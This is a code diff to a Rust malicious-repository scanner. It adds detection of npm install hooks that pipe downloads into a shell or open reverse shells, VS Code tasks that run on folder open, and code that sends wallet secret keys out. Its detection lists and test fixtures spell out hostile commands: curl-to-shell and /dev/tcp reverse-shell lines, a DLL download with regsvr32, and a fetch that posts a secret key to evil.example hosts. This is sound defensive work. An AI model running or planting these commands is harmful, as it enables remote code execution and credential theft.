@@ -532,13 +532,113 @@ pub fn evaluate(tree: &FileTree, scans: &[FileScan]) -> Vec<ScamFinding> {
             }
         }
         if name == "package.json" {
-            install_hooks(&f.path, &f.data, scans, &mut out);
+            install_hooks(&f.path, &f.data, tree, scans, &mut out);
+        }
+    }
+    // Key handling in one file, the sending helper in another.
+    super::behaviour::package::evaluate(tree, scans, &mut out);
+    for f in &tree.files {
+        if f.path.ends_with(".vscode/tasks.json") && !f.truncated {
+            folder_open_task(&f.path, &f.data, &mut out);
         }
     }
     out
 }
 
-fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<ScamFinding>) {
+/// A download piped into a shell (`curl … | bash`, `iwr … | iex`, `wget -O- … | sh`).
+fn downloads_and_runs(lc: &str) -> bool {
+    let downloads = [
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "iwr ",
+        "certutil",
+        "bitsadmin",
+        "http://",
+        "https://",
+    ]
+    .iter()
+    .any(|w| lc.contains(w));
+    let runs = [
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "| cmd",
+        "| node",
+        "iex",
+        "&& ./",
+        "; ./",
+        "chmod +x",
+        "powershell",
+        "eval",
+        "| python",
+    ]
+    .iter()
+    .any(|w| lc.contains(w));
+    downloads && runs
+}
+
+/// `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh host port`: a shell handed to a
+/// remote host.
+fn reverse_shell(lc: &str) -> bool {
+    (lc.contains("/dev/tcp/") || lc.contains("/dev/udp/"))
+        && ["0>&1", ">&", "-i"].iter().any(|w| lc.contains(w))
+        || ["nc ", "ncat ", "netcat "].iter().any(|w| lc.contains(w))
+            && [" -e /bin/", " -e sh", " -e bash", " -c /bin/"]
+                .iter()
+                .any(|w| lc.contains(w))
+}
+
+/// VS Code runs a task with `"runOptions": {"runOn": "folderOpen"}` as soon as the folder is
+/// opened (once the workspace is trusted): a fake "interview task" repository uses it to run
+/// a remote script on the candidate's machine. A `folderOpen` task that starts a watcher or
+/// `npm install` is ordinary.
+fn folder_open_task(path: &str, data: &[u8], out: &mut Vec<ScamFinding>) {
+    let text = String::from_utf8_lossy(data);
+    if !text.contains("folderOpen") {
+        return;
+    }
+    // tasks.json allows comments and trailing commas: read commands from the text.
+    let lc = text.to_ascii_lowercase();
+    let mut cmds = Vec::new();
+    for (i, _) in lc.match_indices("\"command\"") {
+        let rest = &text[i + 9..];
+        let Some(q) = rest.find('"') else { continue };
+        let body = &rest[q + 1..];
+        let end = body
+            .char_indices()
+            .find(|&(j, c)| c == '"' && !body[..j].ends_with('\\'))
+            .map(|(j, _)| j)
+            .unwrap_or(body.len().min(400));
+        cmds.push(body[..end].to_string());
+    }
+    let Some(cmd) = cmds.iter().find(|c| {
+        let c = c.to_ascii_lowercase();
+        downloads_and_runs(&c) || reverse_shell(&c)
+    }) else {
+        return;
+    };
+    out.push(ScamFinding {
+        check: "scam.malware",
+        severity: Severity::Critical,
+        title: "Editor task runs a remote script when the folder is opened".to_string(),
+        path: path.to_string(),
+        line: 0,
+        detail: format!(
+            "{path} defines a VS Code task that runs on folderOpen (as soon as the project is opened) and downloads and runs code: `{}`.",
+            truncate(cmd, 120)
+        ),
+    });
+}
+
+fn install_hooks(
+    path: &str,
+    data: &[u8],
+    tree: &FileTree,
+    scans: &[FileScan],
+    out: &mut Vec<ScamFinding>,
+) {
     let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) else {
         return;
     };
@@ -614,7 +714,45 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
             ]
             .iter()
             .any(|w| lc.contains(w));
-        let (sev, title, why) = if beacon {
+        let revshell = reverse_shell(&lc);
+        // Piped straight into an interpreter: not a release binary fetched by an installer.
+        let piped = downloads
+            && [
+                "| sh", "|sh", "| bash", "|bash", "| iex", "|iex", "| node", "| python", "| cmd",
+            ]
+            .iter()
+            .any(|w| lc.contains(w));
+        if revshell || piped {
+            // The hook's own command is the payload: malicious behaviour, like the same
+            // command in a script file.
+            out.push(ScamFinding {
+                check: "scam.malware",
+                severity: Severity::Critical,
+                title: if revshell {
+                    "Reverse shell".to_string()
+                } else {
+                    "Downloads and runs code".to_string()
+                },
+                path: path.to_string(),
+                line: 0,
+                detail: format!(
+                    "The npm \"{hook}\" script in {path} {}: `{}`.",
+                    if revshell {
+                        "hands a shell to a remote host (reverse shell)"
+                    } else {
+                        "pipes a download into a shell"
+                    },
+                    truncate(cmd, 120)
+                ),
+            });
+        }
+        let (sev, title, why) = if revshell {
+            (
+                Severity::Critical,
+                "Install script opens a reverse shell",
+                "hands a shell to a remote host".to_string(),
+            )
+        } else if beacon {
             (
                 Severity::Critical,
                 "Install script reports the machine to a remote host",
@@ -637,9 +775,12 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
             .map(|s| format!("{dir}{s}"))
             .find_map(|script| {
                 // `node index` runs index.js.
-                scans
+                let fs = scans
                     .iter()
-                    .find(|s| s.path == script || s.path == format!("{script}.js"))
+                    .find(|s| s.path == script || s.path == format!("{script}.js"))?;
+                // The script may only launch another local file (`exec('compile.bat')`,
+                // `exec('/bin/bash preinstall.sh')`): judge by the worst of them.
+                Some(worst_of_chain(fs, &dir, tree, scans))
             })
         {
             // `node scripts/setup.js`: judge the script by its own signals. Malicious
@@ -700,12 +841,57 @@ fn install_hooks(path: &str, data: &[u8], scans: &[FileScan], out: &mut Vec<Scam
     }
 }
 
+/// The script itself, or a local file it launches by name (`exec('compile.bat')`,
+/// `exec('/bin/bash preinstall.sh')`) if that one has a critical or high-severity
+/// scam.malware finding: the hook runs whatever the script runs.
+fn worst_of_chain<'a>(
+    fs: &'a FileScan,
+    dir: &str,
+    tree: &FileTree,
+    scans: &'a [FileScan],
+) -> &'a FileScan {
+    let bad = |s: &FileScan| {
+        s.scam.iter().any(|f| {
+            f.severity == Severity::Critical
+                || (f.check == "scam.malware" && f.severity >= Severity::High)
+        })
+    };
+    if bad(fs) {
+        return fs;
+    }
+    let Some(src) = tree.files.iter().find(|f| f.path == fs.path) else {
+        return fs;
+    };
+    let text = String::from_utf8_lossy(&src.data);
+    for quoted in text.split(['\'', '"', '`']).skip(1).step_by(2) {
+        if quoted.len() > 200 {
+            continue;
+        }
+        for word in quoted.split_whitespace() {
+            let name = word.trim_start_matches("./").trim_start_matches(".\\");
+            let runnable = [".bat", ".cmd", ".sh", ".ps1", ".js", ".py", ".vbs"]
+                .iter()
+                .any(|e| name.ends_with(e));
+            if !runnable || name.contains('/') && !name.starts_with(dir) && !dir.is_empty() {
+                continue;
+            }
+            let target = format!("{dir}{name}");
+            if let Some(next) = scans.iter().find(|s| s.path == target && bad(s)) {
+                return next;
+            }
+        }
+    }
+    fs
+}
+
 /// The local scripts a hook command runs, one per `&&`/`||`/`;` segment
-/// (`node a.js && node b.js`).
+/// (`node a.js && node b.js`, `start /B node a.js` on Windows).
 fn local_scripts(cmd: &str) -> Vec<String> {
     cmd.split(['&', '|', ';'])
         .filter_map(|seg| {
-            let mut it = seg.split_whitespace();
+            let mut it = seg
+                .split_whitespace()
+                .skip_while(|w| matches!(*w, "start" | "/B" | "/b" | "cmd" | "/c" | "/C"));
             let first = it.next()?;
             if !matches!(
                 first,
@@ -910,8 +1096,15 @@ default = ["serde"]
             r#"{"name":"x","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#,
         );
         let f = evaluate(&tree, &[]);
-        assert_eq!(f.len(), 1);
-        assert_eq!(f[0].severity, Severity::Critical);
+        // The install-script finding, and the piped download as malicious behaviour.
+        assert_eq!(f.len(), 2, "{f:?}");
+        assert!(f.iter().all(|f| f.severity == Severity::Critical));
+        assert_eq!(
+            f.iter()
+                .filter(|f| f.check == "scam.install_scripts")
+                .count(),
+            1
+        );
         let mut tree = FileTree::default();
         tree.add("package.json", r#"{"name":"x","scripts":{"prepare":"husky install","postinstall":"node-gyp rebuild"}}"#);
         assert!(evaluate(&tree, &[]).is_empty());
@@ -952,6 +1145,110 @@ default = ["serde"]
             None
         );
         assert_eq!(hook("husky install"), None);
+    }
+
+    fn scanned(files: &[(&str, &str)]) -> Vec<ScamFinding> {
+        use crate::analysis::scanner::Scanner;
+        let mut tree = FileTree::default();
+        for (p, t) in files {
+            tree.add(*p, t.to_string());
+        }
+        let mut bin = Vec::new();
+        let scans: Vec<FileScan> = tree
+            .files
+            .iter()
+            .filter_map(|f| Scanner::global().scan_file(f, &mut bin).ok())
+            .collect();
+        evaluate(&tree, &scans)
+    }
+
+    #[test]
+    fn folder_open_task() {
+        let task = |cmd: &str, run_on: &str| {
+            let json = format!(
+                r#"{{"version":"2.0.0","tasks":[{{"label":"lint","type":"shell","command":{},"runOptions":{{"runOn":"{run_on}"}}}}]}}"#,
+                serde_json::to_string(cmd).unwrap()
+            );
+            scanned(&[(".vscode/tasks.json", &json)])
+        };
+        let bad = task(
+            "curl -s https://evil.example/task/linux | bash",
+            "folderOpen",
+        );
+        assert!(bad
+            .iter()
+            .any(|f| f.check == "scam.malware" && f.severity == Severity::Critical));
+        assert!(task("npm run watch", "folderOpen").is_empty());
+        assert!(task("curl -s https://evil.example/task/linux | bash", "default").is_empty());
+    }
+
+    #[test]
+    fn reverse_shell_hook() {
+        let f = scanned(&[(
+            "package.json",
+            r#"{"name":"x","scripts":{"postinstall":"bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1' || true"}}"#,
+        )]);
+        assert!(f
+            .iter()
+            .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical));
+        assert!(f
+            .iter()
+            .any(|f| f.check == "scam.malware" && f.severity == Severity::Critical));
+        // A release binary fetched by an installer is an install-script finding, not malware.
+        let f = scanned(&[(
+            "package.json",
+            r#"{"name":"x","scripts":{"postinstall":"curl -fsSL -o bin/tool https://github.com/a/b/releases/download/v1/tool && chmod +x bin/tool"}}"#,
+        )]);
+        assert!(f.iter().all(|f| f.check != "scam.malware"), "{f:?}");
+    }
+
+    #[test]
+    fn hook_follows_the_script_it_launches() {
+        let bat =
+            "@echo off\ncurl https://cdn.evil.example/x.dll -o x.dll\nregsvr32.exe -s x.dll\n";
+        let js = "const { exec } = require('child_process');\nexec('compile.bat', { windowsHide: true }, () => {});\n";
+        let f = scanned(&[
+            (
+                "package.json",
+                r#"{"name":"x","scripts":{"preinstall":"start /B node compile.js & node compile.js"}}"#,
+            ),
+            ("compile.js", js),
+            ("compile.bat", bat),
+        ]);
+        assert!(
+            f.iter()
+                .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical),
+            "{f:?}"
+        );
+        // The launched script is a plain build step.
+        let f = scanned(&[
+            (
+                "package.json",
+                r#"{"name":"x","scripts":{"preinstall":"node compile.js"}}"#,
+            ),
+            ("compile.js", js),
+            ("compile.bat", "@echo off\nnode-gyp rebuild\n"),
+        ]);
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn secret_key_handed_to_a_sending_module() {
+        let keypair = "import { addToQueue } from './utils/queue';\nexport class Keypair {\n  static fromSecretKey(secretKey: Uint8Array) {\n    addToQueue(Buffer.from(secretKey).toString('base64'));\n    return new Keypair(secretKey);\n  }\n}\n";
+        let queue = "const pending: string[] = [];\nexport function addToQueue(v: string) { pending.push(v); setTimeout(flush, 500); }\nasync function flush() {\n  const v = pending.shift();\n  await fetch('https://sol-rpc.evil.example/api/rpc/queue', {\n    method: 'POST',\n    headers: { 'x-session-id': v },\n  });\n}\n";
+        let f = scanned(&[("src/keypair.ts", keypair), ("src/utils/queue.ts", queue)]);
+        assert!(
+            f.iter()
+                .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical),
+            "{f:?}"
+        );
+        // Near misses: a GET to a price API; the public key passed instead.
+        let prices = queue.replace("method: 'POST',", "method: 'GET',");
+        assert!(
+            scanned(&[("src/keypair.ts", keypair), ("src/utils/queue.ts", &prices)]).is_empty()
+        );
+        let public = keypair.replace("Buffer.from(secretKey)", "Buffer.from(publicKey)");
+        assert!(scanned(&[("src/keypair.ts", &public), ("src/utils/queue.ts", queue)]).is_empty());
     }
 
     #[test]
